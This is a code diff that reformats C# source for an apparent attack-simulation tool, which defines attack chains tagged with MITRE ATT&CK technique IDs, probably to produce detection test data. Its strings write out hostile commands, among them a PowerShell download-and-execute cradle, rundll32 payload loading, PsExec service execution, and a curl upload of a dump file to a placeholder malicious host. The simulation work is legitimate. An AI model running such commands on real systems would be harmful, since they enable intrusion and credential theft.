@@ -30,7 +30,8 @@ internal static class ServerChains
             Shell(
                 "whoami & hostname & ipconfig /all",
                 new Scene("whoami.exe", "whoami") { Technique = "T1033" },
-                new Scene("ipconfig.exe", "ipconfig  /all") { Technique = "T1016" })) { After = 1 },
+                new Scene("ipconfig.exe", "ipconfig  /all") { Technique = "T1016" }))
+        { After = 1 },
         new ChainPart("sqlservr", Shell("powershell -nop -exec bypass -c \"IEX (New-Object Net.WebClient).DownloadString('<=bad-url>/<=bad-file>.ps1')\"", new Scene("powershell.exe", "powershell  -nop -exec bypass -c \"IEX (New-Object Net.WebClient).DownloadString('<=bad-url>/<=bad-file>.ps1')\"")
         {
             Technique = "T1059.001",
@@ -80,7 +81,8 @@ internal static class ServerChains
                         ],
                     },
                 ],
-            }) { After = 1 },
+            })
+        { After = 1 },
         new ChainPart(
             "wmi",
             new Scene("powershell.exe", "powershell  -nop -w hidden -enc <=encoded:discovery>")
@@ -100,7 +102,8 @@ internal static class ServerChains
                     },
                     new("quser.exe", "\"C:\\Windows\\system32\\quser.exe\"") { Technique = "T1033", After = 9 },
                 ],
-            }) { OnTarget = true, After = 45 },
+            })
+        { OnTarget = true, After = 45 },
         new ChainPart("services", new Scene("psexesvc.exe", @"C:\Windows\PSEXESVC.exe") { As = "system", Technique = "T1569.002", Then = [new("cmd.exe", "\"cmd.exe\" ", "\"cmd\" /c powershell -ep bypass -f C:\\Windows\\Temp\\<=bad-file>.ps1") { Technique = "T1059.003", Then = [new("whoami.exe", "whoami") { Technique = "T1033", After = 15 }, new("rundll32.exe", @"rundll32  C:\Windows\Temp\<=payload>.dll,#1") { Technique = "T1218.011", After = 30 }] }] }) { OnTarget = true, After = 180 })
     {
         Targets = [FileServer, WebServer, DatabaseServer, OfficeWorkstation],
@@ -108,7 +111,11 @@ internal static class ServerChains
     };
 
     public static readonly AttackChain Credentials = new("credential-theft", [AdminWorkstation, OfficeWorkstation, DeveloperWorkstation],
-        new ChainPart("schedule", new Scene("copied-rundll32", @"<path> C:\ProgramData\<=bad-file>.dat,Run") { As = "system", Technique = "T1036.003", Then =
+        new ChainPart("schedule", new Scene("copied-rundll32", @"<path> C:\ProgramData\<=bad-file>.dat,Run")
+        {
+            As = "system",
+            Technique = "T1036.003",
+            Then =
         [
             new(
                 "cmd.exe",
@@ -141,7 +148,9 @@ internal static class ServerChains
                 After = 60,
                 Then = [new("curl.exe", @"curl  -F f=@C:\ProgramData\<=bad-file>.dmp <=bad-url>/u") { Technique = "T1048.003" }],
             },
-        ] }) { After = 1 })
+        ]
+        })
+        { After = 1 })
     {
         NeedsPerson = true,
     };
